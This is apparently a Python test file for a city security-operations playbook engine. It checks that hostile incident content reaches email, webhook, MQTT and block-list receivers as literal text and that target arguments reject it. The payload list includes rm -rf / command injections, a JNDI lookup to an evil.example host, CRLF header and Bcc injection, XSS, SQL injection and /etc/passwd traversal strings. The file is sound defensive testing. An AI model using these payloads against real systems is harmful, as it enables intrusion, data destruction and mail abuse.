"""Hostile event content passed to every action arrives at the real receivers as inert data.

Each payload is put into an incident's title and entities, reaches each
action through sandboxed templates (as a playbook step would pass it), and the
test then reads what the HTTP server, the SMTP sink, the MQTT broker, the
block-list files and the incident timeline actually got: the exact text as a
value, never evaluated (``{{7*7}}`` stays ``{{7*7}}``), never an extra header,
recipient, topic level or file line.  Where the payload lands in an argument
that names a target (an address, a device, an account), the action refuses it
and nothing is sent at all.
"""

from __future__ import annotations

import email
import email.policy
import json
import shutil
import urllib.parse
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from playbooks.actions import REGISTRY, ActionError
from playbooks.connectors.smtp import one_line
from playbooks.templating import render_args
from tests.playbooks.connectors.city import PATHS, City, Receivers, city, receivers

PAYLOADS = [
    "{{7*7}}",
    "{% for x in range(3) %}loop{% endfor %}",
    "${jndi:ldap://x.evil.example/a}",
    "$(rm -rf /)",
    "; rm -rf / #",
    "`id`",
    "<script>alert(1)</script>",
    "a\r\nX-Evil: 1",
    "Alert\r\nBcc: attacker@evil.example\r\n\r\nbody",
    "' OR 1=1 --",
    "../../etc/passwd",
]
TITLE = "{{ incident.title }}"

#: action -> (arguments with the payload in free text, target argument that gets the payload too (or None))
CASES: dict[str, tuple[dict[str, Any], tuple[str, str] | None]] = {
    "add_comment": ({"text": TITLE}, None),
    "block_domain": (
        {"domain": "c2.evil.example", "reason": TITLE}, ("domain", "{{ entities['destination.domain'][0] }}")
    ),
    "block_ip": ({"ip": "10.20.5.66", "reason": TITLE}, ("ip", "{{ entities['source.ip'][0] }}")),
    "collect_evidence": ({"limit": 10}, None),  # the payload is in the entities it searches by
    "create_ticket": ({"title": TITLE, "description": TITLE, "queue": TITLE}, None),
    "disable_account": ({"account": "cam-admin", "reason": TITLE}, ("account", "{{ entities['user.name'][0] }}")),
    "enrich": ({}, None),  # looks the payload entities up
    "escalate": ({"to": "ioc", "situation": "emergency", "summary": TITLE, "requested_actions": TITLE,
                  "responsible": TITLE, "contact": TITLE}, None),
    "firewall_block": ({"value": "10.20.5.66", "reason": TITLE}, ("value", "{{ entities['source.ip'][0] }}")),
    "isolate_device": ({"device_id": "cam-0041", "reason": TITLE}, ("device_id", "{{ entities['iot.device.id'][0] }}")),
    "notify_email": ({"to": "duty@city.example", "subject": TITLE, "body": TITLE}, ("to", TITLE)),
    "notify_webhook": ({"connector": "hook", "message": TITLE}, ("url", TITLE)),
    "ot_safe_state": ({"asset_id": "water-plc-ps3", "reason": TITLE}, ("asset_id", "{{ entities['asset.id'][0] }}")),
    "release_device": ({"device_id": "cam-0041", "reason": TITLE}, ("device_id", "{{ entities['iot.device.id'][0] }}")),
    "set_status": ({"status": "triage", "reason": TITLE}, ("status", TITLE)),
    "update_ticket": ({"ticket_id": "{{ entities['ticket.id'][0] }}", "comment": TITLE, "status": TITLE}, None),
}
ENTITIES = ("source.ip", "destination.domain", "iot.device.id", "asset.id", "user.name", "ticket.id", "host.name")
MAIL_HEADERS = {"from", "to", "subject", "date", "message-id", "auto-submitted", "content-type",
                "content-transfer-encoding", "mime-version"}


def test_every_registered_action_is_covered() -> None:
    assert sorted(CASES) == REGISTRY.names(), "add the new action to CASES with its payload-carrying arguments"


@pytest.fixture(scope="module")
def rx(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Receivers]:
    with receivers(tmp_path_factory.mktemp("receivers")) as shared:
        yield shared


@pytest.fixture
def town(rx: Receivers, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[City]:
    for name in ("CITYSOC_SECRETS_KEY", "CITYSOC_CONNECTORS", "CITYSOC_ASSETS"):
        monkeypatch.delenv(name, raising=False)
    with city(tmp_path, rx) as c:
        yield c


def _run(town: City, name: str, args: dict[str, Any], incident_id: str) -> Any:
    incident = town.store.get_incident(incident_id)
    context = {"incident": {"id": incident.id, "title": incident.title},
               "entities": {k: list(v) for k, v in incident.entities.items()}}
    rendered = render_args(args, context)
    spec = REGISTRY.get(name)
    return spec.func(town.ctx(incident_id), **spec.coerce(rendered))


def _strings(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for v in value.values() for s in _strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in _strings(v)]
    return []


def _assert_inert(town: City, name: str, payload: str, incident_id: str) -> None:
    for got in town.http.requests:
        names = [k.lower() for k, _ in got.headers]
        assert "x-evil" not in names and all("\n" not in v and "\r" not in v for _, v in got.headers)
        assert got.path in (*PATHS.values(), "/tickets/" + urllib.parse.quote(payload, safe=""))
        assert payload in _strings(got.json()), f"{name}: the payload did not arrive verbatim in {got.json()}"
    for _sender, rcpts, raw in town.smtp.messages:
        assert rcpts == ["duty@city.example"]
        message = email.message_from_bytes(raw, policy=email.policy.default)
        assert {k.lower() for k in message} <= MAIL_HEADERS
        assert message["Subject"] == one_line(payload)
        assert payload.replace("\r\n", "\n") in message.get_content().replace("\r\n", "\n")
    for topic, body in town.mqtt.messages:
        assert topic in ("city/iot/cam-0041/command", "city/ot/water-plc-ps3/command")
        assert json.loads(body)["reason"] == payload
    for listed in (town.home / "blocklists").glob("*.txt"):
        [line] = listed.read_text().splitlines()
        assert line.split("  # ", 1)[0] in ("10.20.5.66", "c2.evil.example")
    for entry in town.store.timeline(incident_id)[1:]:
        summaries = ("status", "evidence", "enrichment", "ticket", "escalation")  # hold ids and counts, not the text
        assert payload in _strings(dict(entry.data)) or entry.kind in summaries


def _expected_deliveries(name: str) -> int:
    return {"add_comment": 0, "block_domain": 0, "block_ip": 0, "collect_evidence": 0, "enrich": 0,
            "set_status": 0}.get(name, 1)


@pytest.mark.parametrize("name", sorted(CASES))
def test_payloads_reach_the_receivers_as_inert_data(town: City, name: str) -> None:
    # one store per action and one incident per payload: the suite stays fast on shared CI cores
    for number, payload in enumerate(PAYLOADS):
        town.rx.reset()
        shutil.rmtree(town.home / "blocklists", ignore_errors=True)
        try:
            _check_payload(town, name, payload, f"INC-{number}")
        except (AssertionError, ActionError) as exc:
            raise AssertionError(f"{name} with payload {payload!r}: {exc}") from exc


def _check_payload(town: City, name: str, payload: str, incident_id: str) -> None:
    town.incident(incident_id, title=payload, entities={k: (payload,) for k in ENTITIES})
    args, target = CASES[name]
    out = _run(town, name, args, incident_id)
    if name in ("isolate_device", "release_device", "ot_safe_state"):
        town.mqtt.wait_for(1)
    assert town.received() == _expected_deliveries(name)
    _assert_inert(town, name, payload, incident_id)
    if name == "update_ticket":
        [got] = town.http.requests
        assert got.path == "/tickets/" + urllib.parse.quote(payload, safe="")
    if name in ("collect_evidence", "enrich"):
        assert "49" not in json.dumps(out) and out == json.loads(json.dumps(out))
        entry = town.store.timeline(incident_id)[-1]
        # searched and looked up as the exact value: a parameter, not part of a query or template
        assert f"source.ip={payload}" in entry.data["queries" if name == "collect_evidence" else "unknown"]
    if name == "add_comment":
        assert town.store.timeline(incident_id)[-1].data["text"] == payload
    if target is not None:
        town.rx.reset()
        argument, template = target
        with pytest.raises(ActionError):
            _run(town, name, {**args, argument: template}, incident_id)
        assert town.received() == 0
